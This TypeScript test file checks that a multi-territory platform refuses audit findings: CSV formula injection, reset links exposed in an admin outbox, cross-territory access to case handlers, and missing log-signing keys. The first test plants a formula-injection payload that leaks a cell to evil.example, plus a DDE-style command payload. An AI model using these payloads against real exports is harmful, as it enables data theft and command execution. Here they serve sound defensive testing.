// Issue 13's findings as an attacker reproduced them, each now refused: CSV formula injection, an
// outbox that handed a Barcelona reset link to Fuenlabrada's admin, names shown across territories,
// logs that carried what people typed.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { actorHeader, createTestApp, csrfFrom, type TestApp } from '../support/app.ts';
import { findTerritory } from '../../src/contexts/territories/territory.service.ts';
import { lastMailTo } from '../support/client.ts';
import type { RoleGrant } from '../../src/platform/auth/permissions.ts';
import { newSeed } from '../../src/platform/access-log/signing.ts';

let t: TestApp;
let barcelonaId: string;
let fuenlabradaId: string;
let csrf: { token: string; cookie: string };
before(async () => {
  t = await createTestApp({ actAs: true, config: { rateLimitPerMinute: 100_000 } });
  barcelonaId = (await findTerritory(t.database.db, 'barcelona'))!.id;
  fuenlabradaId = (await findTerritory(t.database.db, 'fuenlabrada'))!.id;
  csrf = csrfFrom(await t.app.inject({ url: '/ca/t/barcelona/organisations/new', headers: actorHeader({ grants: [] }) }));
});
after(async () => t.close());

const as = (grants: RoleGrant[], personId = '00000000-0000-4000-8000-0000000013a1', twoFactorVerified = true) => ({ ...actorHeader({ personId, displayName: 'Attacker', grants, twoFactorVerified }), cookie: csrf.cookie });
const post = (url: string, headers: Record<string, string>, payload: Record<string, string | string[]>) =>
  t.app.inject({ method: 'POST', url, headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams(Object.entries({ ...payload, _csrf: csrf.token }).flatMap(([k, v]) => (Array.isArray(v) ? v.map((x) => [k, x]) : [[k, v]]))).toString() });

test('finding 5: an organisation named =HYPERLINK(…) is exported as text, not as a formula', async () => {
  const attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Obre")';
  const created = await post('/ca/t/barcelona/organisations/new', as([]), {
    name: attack,
    type: 'association',
    description: '@SUM(1+1)*cmd|calc',
    areas: ['housing'],
    languages: ['ca'],
    website: '',
    publicEmail: '',
    publicPhone: '',
  });
  assert.equal(created.statusCode, 303);
  const csv = await t.app.inject({ url: '/ca/t/barcelona/organisations.csv', headers: as([{ role: 'territory-admin', scope: { kind: 'territory', id: barcelonaId } }]) });
  assert.equal(csv.statusCode, 200);
  const rows = parse(csv.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
  const row = rows.find((r) => r.name!.includes('HYPERLINK'));
  assert.ok(row, 'the organisation is exported');
  assert.equal(row.name, `'${attack}`);
  assert.equal(row.description, `'@SUM(1+1)*cmd|calc`);
  for (const r of rows) for (const cell of Object.values(r)) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/, 'no cell of the export begins like a formula');
});

test('finding 1: Fuenlabrada’s territory admin cannot read a Barcelona reset link in the outbox, and nobody reads a secret there', async () => {
  const victim = 'case-handler@coproduce.example';
  const reset = await post('/en/account/password-reset', as([]), { email: victim });
  assert.equal(reset.statusCode, 303);
  const mail = await lastMailTo(t.app, victim);
  const token = /token=([\w-]+)/.exec(mail!.body)![1]!;

  const fuenlabradaAdmin = [{ role: 'territory-admin', scope: { kind: 'territory', id: fuenlabradaId } }] as RoleGrant[];
  // Without a second factor: not even the page.
  const halfSignedIn = await t.app.inject({ url: '/en/admin/outbox', headers: as(fuenlabradaAdmin, undefined, false) });
  assert.notEqual(halfSignedIn.statusCode, 200);
  assert.doesNotMatch(halfSignedIn.body, new RegExp(token));
  // With it: the page, but not the Barcelona person's message, and never the link.
  const scoped = await t.app.inject({ url: '/en/admin/outbox', headers: as(fuenlabradaAdmin) });
  assert.equal(scoped.statusCode, 200);
  assert.doesNotMatch(scoped.body, new RegExp(token));
  assert.doesNotMatch(scoped.body, new RegExp(victim));
  // A platform admin with a second factor sees recipient and subject, still not the link.
  const platform = await t.app.inject({ url: '/en/admin/outbox', headers: as([{ role: 'platform-admin', scope: { kind: 'platform', id: null } }]) });
  assert.equal(platform.statusCode, 200);
  assert.match(platform.body, new RegExp(victim));
  assert.match(platform.body, /its text is not shown/);
  assert.doesNotMatch(platform.body, new RegExp(token));
  assert.doesNotMatch(platform.body, /password-reset\/new/);
});

test('finding 1: in production without a mail server the start says so, reset links are refused, and no secret is kept', async () => {
  const production = await createTestApp({ actAs: true, config: { env: 'production', smtpUrl: null, rateLimitPerMinute: 100_000 } });
  try {
    assert.ok(production.logs.some((line) => line.includes('no mail server (SMTP_URL) in production')), 'the start warns');
    const form = await production.app.inject('/en/account/password-reset');
    const token = csrfFrom(form);
    const refused = await production.app.inject({ method: 'POST', url: '/en/account/password-reset', headers: { cookie: token.cookie, 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams({ _csrf: token.token, email: 'case-handler@coproduce.example' }).toString() });
    assert.equal(refused.statusCode, 400);
    assert.match(refused.body, /this platform has no mail server yet/);
    assert.equal(await lastMailTo(production.app, 'case-handler@coproduce.example'), null);
    // Any other message with a secret (an invitation, a confirmation) is kept without its text.
    await production.app.mailer.send({ to: 'invited@example.org', locale: 'en', subjectKey: 'identity.mail.invitation.subject', bodyKey: 'identity.mail.invitation.body', values: { inviter: 'A', role: 'B', link: 'http://localhost/en/account/invitation?token=SECRET-TOKEN' }, secret: true });
    assert.equal((await lastMailTo(production.app, 'invited@example.org'))!.body, '');
  } finally {
    await production.close();
  }
});

test('finding 2: Barcelona’s recovery page (and its case handlers’ names) is refused to Fuenlabrada’s admin', async () => {
  const fuenlabradaAdmin = as([{ role: 'territory-admin', scope: { kind: 'territory', id: fuenlabradaId } }]);
  const refused = await t.app.inject({ url: '/en/t/barcelona/antenna/recovery', headers: fuenlabradaAdmin });
  assert.equal(refused.statusCode, 403);
  const barcelonaAdmin = as([{ role: 'territory-admin', scope: { kind: 'territory', id: barcelonaId } }]);
  const own = await t.app.inject({ url: '/en/t/barcelona/antenna/recovery', headers: barcelonaAdmin });
  assert.equal(own.statusCode, 200);
  // The page with the list of Barcelona's case handlers is Barcelona's admin's only.
  assert.match(own.body, /name="personId"/);
  assert.doesNotMatch(refused.body, /name="personId"/);
  assert.equal((await t.app.inject({ url: '/en/t/fuenlabrada/antenna/recovery', headers: fuenlabradaAdmin })).statusCode, 200);
  // The same for a form post and for the API.
  const regrant = await post('/en/t/barcelona/antenna/recovery/regrant', fuenlabradaAdmin, { recoveryKey: 'x', personId: '00000000-0000-4000-8000-000000000001' });
  assert.equal(regrant.statusCode, 403);
});

test('finding 11: in production the start warns when ACCESS_LOG_SIGNING_KEY is unset (a key per instance), and not when it is set', async () => {
  const unset = await createTestApp({ config: { env: 'production', rateLimitPerMinute: 100_000 } });
  try {
    assert.ok(unset.logs.some((line) => line.includes('ACCESS_LOG_SIGNING_KEY is not set') && line.includes('Every instance of one deployment must share one key')), 'the start warns');
  } finally {
    await unset.close();
  }
  const shared = await createTestApp({ config: { env: 'production', rateLimitPerMinute: 100_000, accessLogKey: { kind: 'seed', seed: newSeed() } } });
  try {
    assert.ok(!shared.logs.some((line) => line.includes('ACCESS_LOG_SIGNING_KEY is not set')));
  } finally {
    await shared.close();
  }
});
